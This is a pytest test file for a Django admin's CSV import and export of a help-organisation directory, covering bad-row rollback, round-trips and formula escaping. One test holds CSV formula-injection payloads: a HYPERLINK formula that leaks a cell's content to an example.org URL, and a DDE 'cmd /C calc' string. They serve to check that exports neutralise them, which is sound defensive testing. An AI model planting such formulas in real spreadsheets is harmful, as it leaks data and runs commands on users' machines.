"""CSV import and export of the help directory: a file with a bad row imports nothing,
what is exported imports back unchanged, and no cell can run as a spreadsheet formula."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from portal.directory.models import Organisation
from portal.directory.resources import OrganisationResource
from tests.directory_factories import make_org
from tests.editors_helpers import logged_in, staff_user

pytestmark = pytest.mark.django_db

LIST_URL = "/admin/directory/organisation/"


@pytest.fixture
def superuser(django_user_model):
    """A real Publisher, not a superuser: the groups hold every directory permission by
    migration (issue 9). Overrides conftest's fixture of the same name for this module."""
    return staff_user(django_user_model, "chief", "Publishers")


HEADER = (
    "slug,name_ar,name_fr,name_en,kind,regions,audiences,languages,source_url,verified_on,status\n"
)


def csv_file(*rows):
    return SimpleUploadedFile("entries.csv", (HEADER + "".join(rows)).encode(), "text/csv")


GOOD_1 = "line-one,خط,Ligne un,Line one,ngo,casablanca-settat|online,women,ar|fr,https://example.org/1,2026-11-01,published\n"
GOOD_2 = "line-two,خط,Ligne deux,Line two,legal-aid,nationwide,everyone,fr,https://example.org/2,2026-11-02,draft\n"


@pytest.mark.parametrize(
    ("bad_row", "reason"),
    [
        (
            "line-bad,خط,Mauvaise,Bad,not-a-kind,nationwide,everyone,ar,https://example.org/3,2026-11-03,published\n",
            "not a valid choice",
        ),
        (
            "line-bad,خط,Mauvaise,Bad,ngo,atlantis,everyone,ar,https://example.org/3,2026-11-03,published\n",
            "Unknown code(s): atlantis",
        ),
        (
            "line-bad,خط,Mauvaise,Bad,ngo,nationwide,everyone,ar,https://example.org/3,2099-01-01,draft\n",
            "This date is in the future.",
        ),
    ],
)
def test_csv_import_with_one_bad_row_imports_nothing_and_names_the_row(
    superuser_client, bad_row, reason
):
    response = superuser_client.post(
        f"{LIST_URL}import/",
        {"format": "0", "import_file": csv_file(GOOD_1, bad_row, GOOD_2)},
    )
    html = response.content.decode()
    assert response.status_code == 200
    assert reason in html
    # The second data row (line 3 of the file, after the header) is the bad one.
    assert "<td>2 </td>" in html or "Line number: 2" in html
    assert "Confirm import" not in html
    assert not Organisation.objects.exists()


def test_csv_import_of_a_bad_file_through_the_resource_rolls_back(db):
    import tablib

    dataset = tablib.Dataset().load(HEADER + GOOD_1 + GOOD_2.replace("legal-aid", "nope"), "csv")
    result = OrganisationResource().import_data(dataset, dry_run=False)
    assert result.has_validation_errors()
    assert [row.number for row in result.invalid_rows] == [2]
    assert not Organisation.objects.exists()


def test_csv_import_then_export_round_trip(superuser_client):
    response = superuser_client.post(
        f"{LIST_URL}import/", {"format": "0", "import_file": csv_file(GOOD_1, GOOD_2)}
    )
    assert "Confirm import" in response.content.decode()
    assert not Organisation.objects.exists()  # the preview is a dry run
    import tablib

    dataset = tablib.Dataset().load(HEADER + GOOD_1 + GOOD_2, "csv")
    result = OrganisationResource().import_data(dataset, dry_run=False)
    assert not result.has_errors() and not result.has_validation_errors()
    one = Organisation.objects.get(slug="line-one")
    assert {region.code for region in one.regions.all()} == {"casablanca-settat", "online"}
    # The file said "published": an import only ever makes drafts.
    assert one.name_fr == "Ligne un" and one.status == "draft"
    exported = OrganisationResource().export().csv
    assert "line-one" in exported and "casablanca-settat|online" in exported
    assert superuser_client.get(f"{LIST_URL}export/").status_code == 200


@pytest.fixture
def publisher_client(client, django_user_model):
    """A real member of the Publishers group (its permissions come from the migrations)."""
    return logged_in(client, staff_user(django_user_model, "publisher", "Publishers"))


def exported_csv(client):
    """The CSV the admin's export view gives, with every column ticked."""
    import csv
    import io
    import re

    page = client.get(f"{LIST_URL}export/").content.decode()
    ticked = {name: "on" for name in re.findall(r'type="checkbox" name="([^"]+)"', page)}
    assert ticked, "the export form lists the columns to export"
    response = client.post(f"{LIST_URL}export/", {"format": "0", "resource": "0", **ticked})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content if response.streaming else [response.content])
    return list(csv.DictReader(io.StringIO(text.decode("utf-8-sig"))))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_export_escapes_cells_a_spreadsheet_would_run(publisher_client, start):
    payload = f'{start}HYPERLINK("https://example.org/?leak="&A1,"Call")'
    make_org(
        "formula",
        name_fr=payload,
        editor_notes=f"{start}cmd|' /C calc'!A0",
        description_en="-2+3 is a plain sum",
    )
    make_org("plain", name_fr="Ligne d'écoute")
    rows = {row["slug"]: row for row in exported_csv(publisher_client)}
    assert rows["formula"]["name_fr"] == "'" + payload
    assert rows["formula"]["editor_notes"] == f"'{start}cmd|' /C calc'!A0"
    assert rows["formula"]["description_en"] == "'-2+3 is a plain sum"
    # Ordinary text is exported as it is.
    assert rows["plain"]["name_fr"] == "Ligne d'écoute"
    assert rows["plain"]["source_url"] == "https://example.org/source"


def test_escaped_export_imports_back_unchanged(db):
    import tablib

    # A draft: a row changing a published entry is refused (it must go through review).
    make_org("formula", name_fr="=1+1", description_en="-2", status=Organisation.Status.DRAFT)
    exported = OrganisationResource().export().csv
    assert "'=1+1" in exported
    Organisation.objects.filter(slug="formula").update(name_fr="changed")
    result = OrganisationResource().import_data(tablib.Dataset().load(exported, "csv"))
    assert not result.has_errors() and not result.has_validation_errors()
    organisation = Organisation.objects.get(slug="formula")
    assert organisation.name_fr == "=1+1" and organisation.description_en == "-2"
